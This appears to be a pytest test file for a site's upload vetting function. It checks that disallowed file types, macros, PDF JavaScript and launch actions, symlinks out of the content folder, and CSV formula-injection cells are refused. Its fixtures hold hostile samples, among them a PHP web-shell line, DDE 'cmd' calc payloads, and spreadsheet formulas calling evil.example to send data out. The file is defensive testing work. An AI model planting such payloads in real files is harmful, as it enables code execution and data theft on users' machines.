"""vet(): every allowed kind passes as a real file; every refused kind, mismatch and link is named with a reason."""

from __future__ import annotations

import base64
import os

import pytest
from file_samples import CLEAN_SVG, office, opendocument, pdf, pdf_with_compressed, picture, svg, vet_written
from file_vetting import settings
from file_vetting.vet import vet

ALLOWED = [
    ("photo.jpg", picture("JPEG")),
    ("photo.JPEG", picture("JPEG")),
    ("chart.png", picture("PNG")),
    ("wave.gif", picture("GIF")),
    ("garden.webp", picture("WEBP")),
    ("garden.avif", picture("AVIF")),
    ("square.svg", CLEAN_SVG),
    ("embedded.svg", svg('<image width="2" height="2" href="data:image/png;base64,'
                         + base64.b64encode(picture("PNG")).decode() + '"/>')),
    ("report.pdf", pdf()),
    ("report.docx", office("docx")),
    ("budget.xlsx", office("xlsx", extra_parts=[("xl/printerSettings/printerSettings1.bin", b"\x00\x01")])),
    ("minutes.odt", opendocument("odt")),
    ("figures.ods", opendocument("ods")),
    ("figures.csv", b"year,attendance\n2019,120\n2020,95\n"),
    ("notes.txt", "Plain notes, with “curly quotes” and é.\n".encode()),
    ("bom.txt", b"\xef\xbb\xbfText saved by Notepad with a byte order mark\n"),
]

REFUSED = [
    # (file name, bytes, words the message must contain)
    ("page.html", b"<html><script>alert(1)</script></html>", ".html files cannot be published"),
    ("page.htm", b"<p>hi</p>", ".htm files cannot be published"),
    ("page.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>", ".xhtml files"),
    ("app.js", b"alert(1)", ".js files"),
    ("app.mjs", b"export default 1", ".mjs files"),
    ("data.xml", b"<?xml version='1.0'?><a/>", ".xml files"),
    ("pic.svgz", b"\x1f\x8b\x08\x00", ".svgz files"),
    ("shell.php", b"<?php system($_GET['c']); ?>", ".php files"),
    ("setup.exe", b"MZ\x90\x00", ".exe files"),
    ("mystery.xyz", b"hello", ".xyz files"),
    ("README", b"hello", "without an ending"),
    ("report.docm", office("docx"), ".docm files"),
    ("budget.xlsm", office("xlsx"), ".xlsm files"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ".doc files"),
    ("photo.jpg", b"<html><script>alert(1)</script></html>", "but it is a web page (HTML)"),
    ("photo.jpg", picture("PNG"), "but it is a PNG picture"),
    ("chart.png", CLEAN_SVG, "but it is an SVG picture"),
    ("report.pdf", b"<script>alert(1)</script>", "but it is a web page"),
    ("report.docx", pdf(), "but it is a PDF document"),
    ("broken.png", picture("PNG")[:40], "damaged or incomplete"),
    ("macro.docx", office("docx", extra_parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "macros"),
    ("macro.xlsx", office("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    ("macro.xlsx", office("xlsx", extra_parts=[("xl/macrosheets/sheet1.xml", b"<x/>")]), "macro sheets"),
    ("control.docx", office("docx", extra_parts=[("word/activeX/activeX1.xml", b"<x/>")]), "ActiveX"),
    ("template.docx", office("docx", main_type="application/vnd.openxmlformats-officedocument.wordprocessingml."
                             "template.main+xml"), "not a Word document"),
    ("sheet.docx", office("xlsx"), "not a Word document"),
    ("no-types.docx", opendocument("odt"), "no [Content_Types].xml"),
    ("macro.odt", opendocument("odt", extra_parts=[("Basic/Standard/Module1.xml", b"<x/>")]), "macros"),
    ("macro.ods", opendocument("ods", extra_parts=[("Scripts/python/run.py", b"import os")]), "macros"),
    ("event.odt", opendocument("odt", content_extra='<script:event-listener xmlns:script="urn:x"/>'), "event"),
    ("text.ods", opendocument("odt"), "not an OpenDocument spreadsheet"),
    ("order.odt", opendocument("odt", first="content2.xml"), "first part is not 'mimetype'"),
    ("js.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "/JavaScript"),
    ("hexjs.pdf", pdf("/OpenAction << /S /J#61vaScript >>"), "/JavaScript"),
    ("launch.pdf", pdf("/OpenAction << /S /Launch /F (calc.exe) >>"), "/Launch"),
    ("hidden.pdf", pdf_with_compressed("<< /S /JavaScript /JS (app.alert(1)) >>"), "/JavaScript"),
    ("attached.pdf", pdf("/Names << /EmbeddedFiles 5 0 R >>"), "/EmbeddedFiles"),
    ("locked.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"), "encrypted"),
    ("utf16.txt", "hello".encode("utf-16"), "NUL bytes"),
    ("latin1.csv", "café,1\n".encode("cp1252"), "not saved as UTF-8"),
    ("empty.pdf", b"", "the file is empty"),
    ("evil.svg", svg("<script>alert(1)</script>"), "<script>"),
]


@pytest.fixture
def content(tmp_path):
    root = tmp_path / "content"
    (root / "images").mkdir(parents=True)
    return root


@pytest.mark.parametrize(("name", "data"), ALLOWED, ids=[name for name, _ in ALLOWED])
def test_allowed_kinds_pass(content, name, data):
    path = content / "images" / name
    path.write_bytes(data)
    assert vet(path, content) == []


@pytest.mark.parametrize(("name", "data", "words"), REFUSED, ids=[f"{n}-{w[:20]}" for n, _, w in REFUSED])
def test_refused_files_are_named_with_the_reason_and_a_hint(content, name, data, words):
    path = content / "images" / name
    path.write_bytes(data)
    problems = vet(path, content)
    assert len(problems) == 1, problems
    problem = problems[0]
    assert problem.severity == "error" and problem.path == str(path)
    assert words in problem.message, problem.message
    assert problem.hint and len(problem.hint) > 20


def test_a_mismatched_picture_gets_the_right_name_as_its_hint(content):
    path = content / "images" / "photo.jpg"
    path.write_bytes(picture("PNG"))
    assert vet(path, content)[0].hint == "rename it to photo.png"


def test_html_and_scripts_get_a_hint_saying_what_to_do_instead(content):
    for name, words in (("a.html", "content/pages/ in Markdown"), ("a.js", "theme"), ("a.docm", "without macros"),
                        ("a.mp4", "YouTube or Vimeo")):
        path = content / "images" / name
        path.write_bytes(b"x")
        assert words in vet(path, content)[0].hint


@pytest.mark.parametrize("target", ["/proc/self/environ", "/etc/passwd", "../../.git/config", "../../outside.png"])
def test_a_link_out_of_the_content_folder_is_refused_naming_the_link(tmp_path, content, target):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[remote]\n\turl = https://token@example.invalid/x\n")
    (tmp_path / "outside.png").write_bytes(picture("PNG"))
    link = content / "images" / "innocent.txt"
    link.symlink_to(target)
    problems = vet(link, content)
    assert problems and "outside the content folder" in problems[0].message
    assert problems[0].path == str(link) and target in problems[0].message


def test_a_file_inside_a_linked_folder_outside_content_is_refused(tmp_path, content):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret\n")
    (content / "images" / "more").symlink_to(outside, target_is_directory=True)
    problems = vet(content / "images" / "more" / "secret.txt", content)
    assert problems and "outside the content folder" in problems[0].message


def test_dot_dot_in_the_path_cannot_climb_out(tmp_path, content):
    (tmp_path / "secret.txt").write_text("secret\n")
    problems = vet(content / "images" / ".." / ".." / "secret.txt", content)
    assert problems and "outside the content folder" in problems[0].message


def test_links_inside_content_are_judged_by_what_they_point_at(content):
    (content / "images" / "real.png").write_bytes(picture("PNG"))
    (content / "images" / "alias.png").symlink_to("real.png")
    assert vet(content / "images" / "alias.png", content) == []
    (content / "images" / "page.html").write_bytes(b"<script>alert(1)</script>")
    (content / "images" / "disguised.png").symlink_to("page.html")
    assert "but it is a web page" in vet(content / "images" / "disguised.png", content)[0].message


def test_a_folder_link_that_loops_is_refused(content):
    (content / "images" / "loop").symlink_to("..", target_is_directory=True)
    (content / "images" / "a.png").write_bytes(picture("PNG"))
    problems = vet(content / "images" / "loop" / "images" / "a.png", content)
    assert problems and "points at a folder that contains it" in problems[0].message


def test_dangling_links_pipes_and_folders_are_refused(content):
    (content / "images" / "gone.png").symlink_to("nowhere.png")
    assert "link to something missing" in vet(content / "images" / "gone.png", content)[0].message
    os.mkfifo(content / "images" / "pipe.txt")
    assert "not an ordinary file" in vet(content / "images" / "pipe.txt", content)[0].message


def test_size_and_kinds_come_from_the_setting(content):
    path = content / "images" / "chart.png"
    path.write_bytes(picture("PNG"))
    table = content / "images" / "table.csv"
    table.write_text("a,b\n" * 100)
    small = settings.merged({"FILE_VETTING": {"max_mb": 0.0001}})
    assert "the limit is 0.0001 MB" in vet(table, content, small)[0].message
    assert vet(path, content, small) == []
    no_png = settings.merged({"FILE_VETTING": {"kinds": ["jpeg", "pdf"]}})
    assert "not among the kinds of file this site publishes" in vet(path, content, no_png)[0].message


# A cell a spreadsheet program runs as a formula calling a function or another program, as the table opens.
@pytest.mark.parametrize(("table", "line"), [
    (b'name,total\nA,"=WEBSERVICE(""https://evil.example/?""&A1)"\n', 2),
    (b"name,picture\nA,=IMAGE(\"https://evil.example/t.png\")\n", 2),
    (b"a;b\n1;2\nC;-2+3+cmd|' /C calc'!A0\n", 3),  # DDE, in a table separated by semicolons
    (b"a\tb\n@SUM(1+1)*cmd|' /C calc'!A0\t1\n", 2),
    (b'a,b\n" =HYPERLINK(""https://evil.example/"",""Click"")",1\n', 2),
    (b"x,y\n1,+ImportXML (\"https://evil.example\",\"//a\")\n", 2),
    (b'a;b\n1;=IF(1,WEBSERVICE("https://evil.example/"))\n', 2),  # one cell where the semicolon separates
    (b'a\n=IF(")"="",0,WEBSERVICE("https://evil.example/"))\n', 2),  # a bracket in quotes ends nothing
    (b'a\n=IF(1,"x,=WEBSERVICE(1)",2)\n', 2),  # a cell inside another's quotes, as a comma program reads it
    (b'a\nab"c,=WEBSERVICE(1)&""\n', 2),  # a quote inside a cell starts no quoted cell
    (b'a\n="x"&cmd|\'/c calc\'!A0\n', 2),
    (b'a\n"=IFERROR(__xludf.DUMMYFUNCTION(""IMPORTXML(""""https://evil.example"""",""""//a"""")""),""x"")"\n', 2),
])
def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp_path, table, line):
    [problem] = vet_written(tmp_path, "images/table.csv", table)
    assert f"line {line} has a cell a spreadsheet program runs as a formula" in problem.message
    assert "fetch a web address or start a program" in problem.message
    assert "Paste Special" in problem.hint


@pytest.mark.parametrize("table", [
    b"phone,change\n+44 (0)151 555 0000,-5\n0151 555 0001,-\n",  # a phone number, a negative number, a dash
    b"sum,note\n=A1+B1,@nhsuk on social media\n",  # arithmetic on cells fetches nothing; a handle calls nothing
    b'quote,x\n"She said: ""carers (and staff) matter""",1\n',
    b"a,b,total\n1,2,=SUM(A2:B2)\n",  # a sum calls nothing out
    b"phone,booking\n+44 (0)151 555 0000,Register (free) at the desk\n",  # words after a phone number's cell
    b"date,cost,booking\n2026-05-01,-,Call (0151) 555 0000 to book\n",
    b"day,who\n- Mon (9am),@MerseyCare (on X)\n",  # text a writer starts with a dash or a handle
    b'place,x\n"Liverpool, - drop-in (Tuesdays)",1\n',  # a comma inside a quoted cell starts no cell
    b'a,b,joined\n1,2,"=A2&"" | ""&B2"\n',  # a bar in a formula's quotes is a character
    b"phone,hours\n+44 151 555 0000 | text relay 18001,Mon | Fri\n",  # a bar with no item after it links nothing
])
def test_numbers_phone_numbers_and_plain_formulas_in_a_table_are_published(tmp_path, table):
    assert vet_written(tmp_path, "images/table.csv", table) == []
